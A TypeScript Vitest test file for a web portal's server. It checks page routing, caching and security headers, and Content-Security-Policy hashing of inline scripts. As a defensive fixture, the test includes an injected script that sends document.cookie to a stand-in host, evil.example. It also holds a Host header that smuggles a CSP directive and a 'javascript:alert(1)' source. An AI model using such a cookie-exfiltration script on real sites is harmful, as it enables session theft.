import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openTestDatabase, type TestDatabase } from '../platform/db/test-database.ts'
import { createMainApp } from './main.ts'
import { createMailer } from '../platform/mailer.ts'
import { MAILBOX_OFF_MESSAGE } from './dev-mailbox.ts'
import { STORYBOOK_POLICY } from '../http/page-policy.ts'
import { SCRIPT_HASHES_FILE } from '../../scripts/script-hashes.mjs'

let app: ReturnType<typeof createMainApp>
let database: TestDatabase

beforeAll(async () => {
  database = await openTestDatabase({ seeds: { catalogue: false, addresses: false, demoAccount: false } })
  const root = mkdtempSync(path.join(tmpdir(), 'portal-'))
  const distDir = path.join(root, 'dist')
  const storybookDir = path.join(root, 'storybook-static')
  mkdirSync(path.join(distDir, 'assets'), { recursive: true })
  mkdirSync(storybookDir)
  writeFileSync(path.join(distDir, 'index.html'), '<!doctype html><title>app</title>')
  writeFileSync(path.join(distDir, 'assets', 'main-abc123.js'), 'console.log(1)')
  writeFileSync(path.join(storybookDir, 'index.html'), '<!doctype html><title>storybook</title>')
  const mailer = createMailer({ mailbox: async () => {}, log: () => {} })
  app = createMainApp({ distDir, storybookDir, db: database.db, mailer, secret: 'test-secret' })
}, 30_000)

afterAll(async () => {
  await database?.close()
})

describe('main service: where the page finds the certification service (decision 0010)', () => {
  it('answers null when it does not know, so the page keeps port 7600', async () => {
    const response = await app.request('/api/portal-config')
    expect(response.status).toBe(200)
    expect(await response.json()).toEqual({ certificationServicePort: null })
  })

  it('answers the port the certification service listens on', async () => {
    const mailer = createMailer({ mailbox: async () => {}, log: () => {} })
    const configured = createMainApp({
      distDir: mkdtempSync(path.join(tmpdir(), 'portal-config-')),
      storybookDir: '/nonexistent',
      db: database.db,
      mailer,
      secret: 'test-secret',
      certificationServicePort: () => 7611,
    })
    const response = await configured.request('/api/portal-config')
    expect(await response.json()).toEqual({ certificationServicePort: 7611 })
    expect(response.headers.get('cache-control')).toBe('no-store')
  })
})

describe('main service: front end and Storybook', () => {
  it.each(['/', '/login', '/create-profile/register', '/dashboard', '/no-such-page'])(
    'answers %s with the app, whose router decides what it shows',
    async (pathname) => {
      const response = await app.request(pathname)
      expect(response.status).toBe(200)
      expect(await response.text()).toContain('<title>app</title>')
      expect(response.headers.get('cache-control')).toBe('no-cache')
    },
  )

  it('with prerendered pages: each public page its own HTML, every other path the empty app page', async () => {
    const distDir = mkdtempSync(path.join(tmpdir(), 'portal-prerendered-'))
    mkdirSync(path.join(distDir, 'help-center'))
    mkdirSync(path.join(distDir, 'create-profile', 'register'), { recursive: true })
    writeFileSync(path.join(distDir, 'index.html'), '<title>home page</title>')
    writeFileSync(path.join(distDir, 'app.html'), '<title>empty app page</title>')
    writeFileSync(path.join(distDir, 'help-center', 'index.html'), '<title>help center page</title>')
    writeFileSync(
      path.join(distDir, 'create-profile', 'register', 'index.html'),
      '<title>register page</title>',
    )
    const mailer = createMailer({ mailbox: async () => {}, log: () => {} })
    const prerendered = createMainApp({
      distDir,
      storybookDir: distDir,
      db: database.db,
      mailer,
      secret: 'test-secret',
    })
    const titleOf = async (pathname: string) =>
      /<title>([^<]*)/.exec(await (await prerendered.request(pathname)).text())?.[1]
    expect(await titleOf('/')).toBe('home page')
    expect(await titleOf('/help-center')).toBe('help center page')
    expect(await titleOf('/create-profile/register')).toBe('register page')
    expect(await titleOf('/dashboard')).toBe('empty app page')
    expect(await titleOf('/portfolio')).toBe('empty app page')
    expect(await titleOf('/no-such-page')).toBe('empty app page')
    expect((await prerendered.request('/help-center')).headers.get('cache-control')).toBe('no-cache')
  })

  it('answers /verify/<number> with the verification page’s prerendered frame, /verify with its own page', async () => {
    const distDir = mkdtempSync(path.join(tmpdir(), 'portal-verify-shell-'))
    mkdirSync(path.join(distDir, 'verify'))
    writeFileSync(path.join(distDir, 'index.html'), '<title>home page</title>')
    writeFileSync(path.join(distDir, 'app.html'), '<title>empty app page</title>')
    writeFileSync(path.join(distDir, 'verify', 'index.html'), '<title>verify page</title>')
    writeFileSync(path.join(distDir, 'verify', 'number.html'), '<title>verify shell</title>')
    const shells = createMainApp({
      distDir,
      storybookDir: distDir,
      db: database.db,
      mailer: createMailer({ mailbox: async () => {}, log: () => {} }),
      secret: 'test-secret',
    })
    const titleOf = async (pathname: string) =>
      /<title>([^<]*)/.exec(await (await shells.request(pathname)).text())?.[1]
    expect(await titleOf('/verify')).toBe('verify page')
    expect(await titleOf('/verify/')).toBe('verify page')
    for (const pathname of ['/verify/DCP-7KQ4-M9XZ-2F8H', '/verify/not-a-number', '/verify/number.html'])
      expect(await titleOf(pathname), pathname).toBe('verify shell')
    expect(await titleOf('/verify/DCP-7KQ4-M9XZ-2F8H/more')).toBe('empty app page')
    const shell = await shells.request('http://portal.test/verify/DCP-7KQ4-M9XZ-2F8H', {
      headers: { 'Accept-Encoding': 'gzip' },
    })
    expect(shell.headers.get('content-type')).toMatch(/^text\/html/)
    expect(shell.headers.get('cache-control')).toBe('no-cache')
    expect(shell.headers.get('content-security-policy')).toContain("script-src 'self'")
    // A build without the frame: the empty app page, as before.
    const olderDist = mkdtempSync(path.join(tmpdir(), 'portal-no-shell-'))
    writeFileSync(path.join(olderDist, 'app.html'), '<title>empty app page</title>')
    const older = createMainApp({
      distDir: olderDist,
      storybookDir: olderDist,
      db: database.db,
      mailer: createMailer({ mailbox: async () => {}, log: () => {} }),
      secret: 'test-secret',
    })
    expect(await (await older.request('/verify/DCP-7KQ4-M9XZ-2F8H')).text()).toContain('empty app page')
  })

  it('serves hashed assets with a long cache and security headers', async () => {
    const response = await app.request('/assets/main-abc123.js')
    expect(response.status).toBe(200)
    expect(response.headers.get('cache-control')).toContain('immutable')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
  })

  it('serves the built Storybook under /storybook/', async () => {
    expect((await app.request('/storybook')).status).toBe(301)
    const response = await app.request('/storybook/')
    expect(await response.text()).toContain('<title>storybook</title>')
  })

  it('answers an unknown API call with a JSON 404, never the app', async () => {
    const response = await app.request('/api/nothing-here')
    expect(response.status).toBe(404)
    expect(await response.json()).toEqual({ message: 'No API call at GET /api/nothing-here.' })
  })

  it('refuses a POST without the Token before looking for the call, and answers 404 with it', async () => {
    expect((await app.request('/api/nothing-here', { method: 'POST' })).status).toBe(403)
    const bootstrap = await app.request('/api/token')
    const cookie = (bootstrap.headers.get('set-cookie') ?? '').split(';')[0] ?? ''
    const response = await app.request('/api/nothing-here', {
      method: 'POST',
      headers: { Cookie: cookie, Token: bootstrap.headers.get('token') ?? '' },
    })
    expect(response.status).toBe(404)
    expect(await response.json()).toEqual({ message: 'No API call at POST /api/nothing-here.' })
  })
})

describe('main service: what pages may do (docs/decisions/0017)', () => {
  const bootLine = "document.documentElement.setAttribute('data-auth', 'in')"
  const boot = 'import("/assets/main-abc123.js")'
  const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`
  let pages: ReturnType<typeof createMainApp>

  beforeAll(() => {
    const distDir = mkdtempSync(path.join(tmpdir(), 'portal-csp-'))
    const storybookDir = path.join(distDir, 'storybook')
    mkdirSync(path.join(distDir, 'login'), { recursive: true })
    mkdirSync(storybookDir)
    const page = (extra: string) =>
      `<!doctype html><html><head><script>${bootLine}</script><style>body{}</style></head><body><div id="root"></div>${extra}</body></html>`
    writeFileSync(path.join(distDir, 'index.html'), page(`<script type="module">${boot}</script>`))
    writeFileSync(path.join(distDir, 'login', 'index.html'), page(`<script type="module">${boot}</script>`))
    writeFileSync(
      path.join(distDir, 'app.html'),
      page('<script type="module" src="/assets/main-abc123.js"></script>'),
    )
    writeFileSync(path.join(storybookDir, 'index.html'), '<script>window.storybook = 1</script>')
    pages = createMainApp({
      distDir,
      storybookDir,
      db: database.db,
      mailer: createMailer({ mailbox: async () => {}, log: () => {} }),
      secret: 'test-secret',
      certificationServicePort: () => 7611,
      connectSources: ['https://cert.example.com/api', 'javascript:alert(1)'],
    })
  })

  const policyOf = async (url: string) => {
    const response = await pages.request(url)
    expect(response.status, url).toBe(200)
    return Object.fromEntries(
      (response.headers.get('content-security-policy') ?? '')
        .split(';')
        .map((directive) => directive.trim().split(/\s+/))
        .map(([name = '', ...sources]) => [name, sources]),
    )
  }

  it.each([
    ['http://portal.test:7700/', true],
    ['http://portal.test:7700/login', true],
    ['http://portal.test:7700/dashboard', false],
  ])(
    '%s: scripts of the portal and the inline ones of the page by hash; no unsafe-inline for scripts',
    async (url, prerendered) => {
      const policy = await policyOf(url)
      expect(policy['script-src']).toEqual(
        prerendered ? ["'self'", sha256(bootLine), sha256(boot)] : ["'self'", sha256(bootLine)],
      )
      expect(policy).toMatchObject({
        'default-src': ["'self'"],
        'style-src': ["'self'", "'unsafe-inline'"],
        'img-src': ["'self'", 'data:', 'blob:'],
        'connect-src': ["'self'", 'portal.test:7611', 'https://cert.example.com'],
        'object-src': ["'none'"],
        'base-uri': ["'self'"],
        'form-action': ["'self'"],
        'frame-ancestors': ["'none'"],
      })
    },
  )

  it('allows only the inline scripts the build wrote: not one added to a page after the build', async () => {
    const injected = 'fetch("https://evil.example/?" + document.cookie)'
    const withScripts = (...scripts: string[]) =>
      `<!doctype html><html><head>${scripts.map((script) => `<script>${script}</script>`).join('')}</head></html>`
    // A build that recorded its pages' scripts (scripts/build.mjs), and one from before it did.
    const built = mkdtempSync(path.join(tmpdir(), 'portal-csp-built-'))
    writeFileSync(path.join(built, 'index.html'), withScripts(bootLine, injected))
    writeFileSync(path.join(built, 'app.html'), withScripts(bootLine, injected))
    writeFileSync(
      path.join(built, SCRIPT_HASHES_FILE),
      JSON.stringify({ pages: { 'index.html': [sha256(bootLine)], 'app.html': [sha256(bootLine)] } }),
    )
    const older = mkdtempSync(path.join(tmpdir(), 'portal-csp-older-'))
    writeFileSync(path.join(older, 'index.html'), withScripts(bootLine))
    writeFileSync(path.join(older, 'app.html'), withScripts(bootLine))
    const serve = (distDir: string) =>
      createMainApp({
        distDir,
        storybookDir: distDir,
        db: database.db,
        mailer: createMailer({ mailbox: async () => {}, log: () => {} }),
        secret: 'test-secret',
      })
    const scriptSources = async (app: ReturnType<typeof createMainApp>, url: string) => {
      const response = await app.request(url)
      expect(response.status, url).toBe(200)
      const policy = response.headers.get('content-security-policy') ?? ''
      return /script-src ([^;]*)/.exec(policy)?.[1]?.split(' ') ?? []
    }
    const fromBuild = serve(built)
    for (const url of ['/', '/dashboard'])
      expect(await scriptSources(fromBuild, url), url).toEqual(["'self'", sha256(bootLine)])

    // The older build's pages are hashed as they were when the server started: a script written
    // into one since (the answer now carries it) is not allowed.
    const fromOlder = serve(older)
    writeFileSync(path.join(older, 'index.html'), withScripts(bootLine, injected))
    expect(await scriptSources(fromOlder, '/')).toEqual(["'self'", sha256(bootLine)])

    // A build while the server runs rewrites the file: its pages' new scripts are allowed.
    const next = 'import("/assets/main-def456.js")'
    writeFileSync(path.join(built, 'index.html'), withScripts(bootLine, next))
    writeFileSync(
      path.join(built, SCRIPT_HASHES_FILE),
      JSON.stringify({ pages: { 'index.html': [sha256(bootLine), sha256(next)], 'app.html': [] } }),
    )
    utimesSync(path.join(built, SCRIPT_HASHES_FILE), new Date(), new Date(Date.now() + 5000))
    expect(await scriptSources(fromBuild, '/')).toEqual(["'self'", sha256(bootLine), sha256(next)])
    expect(await scriptSources(fromBuild, '/dashboard')).toEqual(["'self'"])
  })

  it('names the certification service on the host the page was reached at, and no host that is not one', async () => {
    expect((await policyOf('http://127.0.0.1:7700/'))['connect-src']).toContain('127.0.0.1:7611')
    const response = await pages.request('http://portal.test/', {
      headers: { Host: 'evil.example; script-src *' },
    })
    expect(response.headers.get('content-security-policy')).not.toContain('evil')
  })

  it('gives the Storybook a policy of its own (it runs inline scripts), and every answer a Permissions-Policy', async () => {
    const storybook = await pages.request('/storybook/')
    expect(storybook.headers.get('content-security-policy')).toBe(STORYBOOK_POLICY)
    for (const url of ['/', '/storybook/', '/api/portal-config', '/assets/none.js', '/api/nothing']) {
      const permissions = (await pages.request(url)).headers.get('permissions-policy') ?? ''
      for (const feature of ['camera=()', 'microphone=()', 'geolocation=()', 'payment=()', 'usb=()'])
        expect(permissions, url).toContain(feature)
    }
  })

  it('answers every /api/ call no-store unless the call says otherwise', async () => {
    expect((await pages.request('/api/nothing-here')).headers.get('cache-control')).toBe('no-store')
    expect((await pages.request('/api/token')).headers.get('cache-control')).toBe('no-store')
    expect((await pages.request('/api/nothing-here', { method: 'POST' })).headers.get('cache-control')).toBe(
      'no-store',
    )
  })
})

describe('main service: the development mailbox', () => {
  const withMailbox = (devMailbox: boolean | undefined, smtpUrl?: string) =>
    createMainApp({
      distDir: mkdtempSync(path.join(tmpdir(), 'portal-mailbox-')),
      storybookDir: '/nonexistent',
      db: database.db,
      mailer: createMailer({ mailbox: async () => {}, log: () => {}, ...(smtpUrl ? { smtpUrl } : {}) }),
      secret: 'test-secret',
      ...(devMailbox === undefined ? {} : { devMailbox }),
    })

  it('is served only when turned on, and only in mailbox mode', async () => {
    const on = await withMailbox(true).request('/dev/mailbox.json')
    expect(on.status).toBe(200)
    expect(on.headers.get('cache-control')).toBe('no-store')
    expect(
      (await withMailbox(true).request('/dev/mailbox')).headers.get('content-security-policy'),
    ).toContain("script-src 'self';")
    for (const app of [withMailbox(false), withMailbox(undefined), withMailbox(true, 'smtp://127.0.0.1:1')]) {
      for (const url of ['/dev/mailbox', '/dev/mailbox.json', '/dev/mailbox/some-id/attachments/0']) {
        const response = await app.request(url)
        expect(response.status, url).toBe(404)
        expect(await response.json(), url).toEqual({ message: MAILBOX_OFF_MESSAGE })
      }
    }
  })
})
